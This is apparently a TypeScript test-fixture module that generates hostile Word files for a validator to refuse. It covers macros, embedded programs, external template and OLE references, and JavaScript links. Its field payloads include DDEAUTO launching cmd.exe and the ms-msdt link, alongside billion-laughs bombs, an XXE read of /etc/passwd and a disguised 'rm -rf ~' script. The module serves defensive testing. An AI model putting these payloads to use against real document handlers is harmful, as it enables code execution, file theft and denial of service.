/** Word files with what doesn't belong into a document: macros, programs, things from elsewhere, wild XML. */
import { type HostileFile, refusedFiles } from './hostile-file.ts';
import {
  documentXml,
  paragraph,
  part,
  REL,
  relation,
  relsXml,
  typesXml,
  W,
  wordParts,
} from './word-parts.ts';
import { writeZip, type ZipPart } from './zip-writer.ts';

const word = (...parts: ZipPart[]) => writeZip(wordParts(...parts));
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1_000)]);
const program = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(300, 1)]);
const OFFICE = 'http://schemas.microsoft.com/office/2006/relationships';
const DOCM = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const RELS = 'word/_rels/document.xml.rels';

/** Macros by any name. */
export function wordMacros(): HostileFile[] {
  return refusedFiles('macros in a Word file', 'docx', {
    'by their name': word(part('word/vbaProject.bin', ole)),
    'by their name in capitals': word(part('word/VBAPROJECT.BIN', ole)),
    'by their name, empty': word(part('word/vbaProject.bin', 'x')),
    'beside the text': word(part('word/vbaData.xml', '<a/>')),
    'by the name of a picture': word(part('word/media/image1.png', ole)),
    'by the name of XML': word(part('word/styles.xml', ole)),
    'by the name of a font': word(part('word/fonts/font1.odttf', ole)),
    'by another name': word(part('word/data.bin', ole)),
    'by the type of the document': word(part('[Content_Types].xml', typesXml(DOCM))),
    'by the type of a part': word(
      part(
        '[Content_Types].xml',
        typesXml(undefined, '<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/>'),
      ),
    ),
    'by a relation': word(part(RELS, relsXml(relation(`${OFFICE}/vbaProject`, 'media/image1.emf')))),
    'as keys': word(part(RELS, relsXml(relation(`${OFFICE}/keyMapCustomizations`, 'customizations.xml')))),
    'in the table of a chart': word(
      part(
        'word/embeddings/a.xlsx',
        writeZip([part('xl/workbook.xml', '<a/>'), part('xl/vbaProject.bin', ole)]),
      ),
    ),
  });
}

/** Files of other kinds inside. */
export function wordPassengers(): HostileFile[] {
  const named = ['exe', 'dll', 'js', 'vbs', 'hta', 'ps1', 'scr', 'lnk', 'html', 'mht', 'jar', 'swf'];
  const byContent = {
    'a program as a picture': program,
    'a Linux program as a picture': Buffer.from('\x7fELF\x02\x01\x01 and so on', 'latin1'),
    'a PDF as a picture': Buffer.from('%PDF-1.7 and so on'),
    'a RAR as a picture': Buffer.from('Rar!\x1a\x07\x01\0 and so on', 'latin1'),
    'a 7z as a picture': Buffer.from("7z\xbc\xaf'\x1c and so on", 'latin1'),
    'a shell’s program as a picture': Buffer.from('#!/bin/sh\nrm -rf ~'),
  };
  return refusedFiles('files in a Word file', 'docx', {
    ...Object.fromEntries(
      named.map((end) => [`a .${end}`, word(part(`word/media/setup.${end}`, 'words that are no program'))]),
    ),
    ...Object.fromEntries(
      Object.entries(byContent).map(([what, bytes]) => [what, word(part('word/media/image1.emf', bytes))]),
    ),
    'an object of another program': word(part('word/embeddings/oleObject1.bin', ole)),
    'an object that says nothing': word(part('word/embeddings/object1.bin', 'xxxxxxxx')),
    'an active control': word(part('word/activeX/activeX1.xml', '<a/>')),
    'a page to be taken in': word(part(RELS, relsXml(relation('aFChunk', 'chunk.xml')))),
    'a document to be taken in': word(part(RELS, relsXml(relation('subDocument', 'other.xml')))),
    'an object by relation': word(part(RELS, relsXml(relation('oleObject', 'media/image1.emf')))),
    'a control by relation': word(part(RELS, relsXml(relation('control', 'media/image1.emf')))),
  });
}

/** Things that Word loads, starts or asks for. */
export function wordReferences(): HostileFile[] {
  const external = (type: string, target: string) =>
    word(part(RELS, relsXml(relation(type, target, 'External'))));
  const settings = (target: string) =>
    word(part('word/_rels/settings.xml.rels', relsXml(relation('attachedTemplate', target, 'External'))));
  const field = (...runs: string[]) =>
    word(
      part(
        'word/document.xml',
        documentXml(
          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${runs
            .map((run) => (run.startsWith('<') ? run : `<w:r><w:instrText>${run}</w:instrText></w:r>`))
            .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
        ),
      ),
    );
  const begun = '<w:r><w:instrText>IF</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>';
  const nested =
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
  return refusedFiles('references in a Word file', 'docx', {
    'a template from the web': settings('https://evil.example/t.dotm'),
    'a template from a network': settings('\\\\evil.example\\share\\t.dotm'),
    'a template from a host’s files': settings('file://evil.example/t.dotm'),
    'a picture from the web': external('image', 'https://evil.example/pixel.png'),
    'an object from the web': external('oleObject', 'https://evil.example/a.html!'),
    'a frame from the web': external('frame', 'https://evil.example/'),
    'a film from the web': external('video', 'https://evil.example/a.mp4'),
    'a table from the web': external('externalLink', 'https://evil.example/a.xlsx'),
    'addresses from the web': external('mailMergeSource', 'https://evil.example/a.xlsx'),
    'a mode in other letters': word(
      part(RELS, relsXml(relation('image', 'http://evil.example/a.png', 'EXTERNAL'))),
    ),
    'from the web without a mode': word(part(RELS, relsXml(relation('image', 'http://evil.example/a.png')))),
    'from a network without a mode': word(part(RELS, relsXml(relation('image', '//evil.example/a.png')))),
    'a link that is a script': external('hyperlink', 'javascript:alert(1)'),
    'a link that is a script, with a tab': external('hyperlink', 'java&#9;script:alert(1)'),
    'a link that is a program’s': external('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
    'a link that searches': external('hyperlink', 'search-ms:query=a&amp;crumb=location:\\\\evil'),
    'a link to a network': external('hyperlink', '\\\\evil.example\\share\\a.exe'),
    'a link to a host’s files': external('hyperlink', 'file://evil.example/a.exe'),
    'data as a link': external('hyperlink', 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'),
    'a relation in another space of names': word(
      part(
        RELS,
        `<x:Relationships xmlns:x="u"><x:Relationship Type="${REL}/image" Target="http://evil.example" TargetMode="External"/></x:Relationships>`,
      ),
    ),
    'a field that starts a program': field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    'a field that starts a program, over runs': field('D', 'D', 'E', 'AUTO cmd'),
    'a field that starts a program, in small letters': field(' dde cmd'),
    'a field that takes a text in': field('INCLUDETEXT "http://evil.example/a.docx"'),
    'a field that takes a picture in': field('INCLUDEPICTURE "http://evil.example/a.png" \\d'),
    'a field that links': field('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\a.xls"'),
    'a field in one element': word(
      part('word/document.xml', documentXml('<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>')),
    ),
    'a field in a header': word(
      part('word/header1.xml', `<w:hdr ${W}><w:p><w:fldSimple w:instr="DDE cmd"/></w:p></w:hdr>`),
    ),
    'a field that another field spells': field(nested, ' c:\\\\cmd.exe'),
    'fields in fields in fields': field(...Array.from({ length: 60 }, () => begun)),
  });
}

/** XML that grows, is too deep, or is none. */
export function wildXml(): HostileFile[] {
  const text = 'word/document.xml';
  const body = (xml: string | Uint8Array) => word(part(text, xml));
  const laughs = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
    '',
  );
  const bomb = `<!DOCTYPE w [<!ENTITY l0 "ha">${laughs}]>`;
  const deep = (levels: number) => documentXml(`${'<w:p>'.repeat(levels)}${'</w:p>'.repeat(levels)}`);
  const ascii = documentXml(paragraph('One.'));
  return refusedFiles('wild XML', 'docx', {
    'a billion laughs': body(`${bomb}<w:document ${W}><w:p><w:r><w:t>&l10;</w:t></w:r></w:p></w:document>`),
    'a billion laughs in relations': word(part(RELS, `${bomb}<Relationships>&l10;</Relationships>`)),
    'a billion laughs in types': word(
      part('[Content_Types].xml', typesXml().replace('<Types', `${bomb}<Types`)),
    ),
    'a billion laughs in styles': word(part('word/styles.xml', `${bomb}<w:styles ${W}/>`)),
    'one long word, many times': body(
      `<!DOCTYPE w [<!ENTITY a "${'a'.repeat(50_000)}">]><w:document ${W}>${'&a;'.repeat(50_000)}</w:document>`,
    ),
    'a file of the server': body(
      `<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document ${W}>&x;</w:document>`,
    ),
    'a page of the web': body(`<!DOCTYPE w SYSTEM "http://evil.example/a.dtd"><w:document ${W}/>`),
    'a definition from elsewhere': body(
      `<!DOCTYPE w [<!ENTITY % x SYSTEM "http://evil.example/a.dtd">%x;]><w:document ${W}/>`,
    ),
    'an empty definition': body(`<!DOCTYPE w><w:document ${W}/>`),
    'a word that nobody defined': body(documentXml(paragraph('&nbsp;'))),
    'a hundred thousand levels': body(deep(100_000)),
    'three hundred levels': body(deep(300)),
    'levels in a part that nobody reads': word(part('customXml/item1.xml', deep(5_000))),
    'tags that never end': body(`<w:document ${W}>${'<w:p>'.repeat(200)}`),
    'two roots': body(`${documentXml('')}<w:document ${W}/>`),
    'no root': body('just words'),
    'two attributes of one name': body(documentXml('<w:p w:a="1" w:a="2"/>')),
    'an encoding that hides signs': body(ascii.replace('UTF-8', 'UTF-7')),
    'another encoding': body(ascii.replace('UTF-8', 'EBCDIC-CP-US')),
    'bytes that are no letters': body(
      Buffer.concat([Buffer.from(ascii.slice(0, -20)), Buffer.from([0xff, 0xc0])]),
    ),
    'letters of two bytes without a mark': body(Buffer.from(ascii, 'utf16le')),
    'a zero': body(documentXml(paragraph('a\u0000b'))),
    'a sign that XML has not': body(documentXml(paragraph('&#1;'))),
    'a tag in a tag': body(documentXml('<w:p <w:r>')),
  });
}
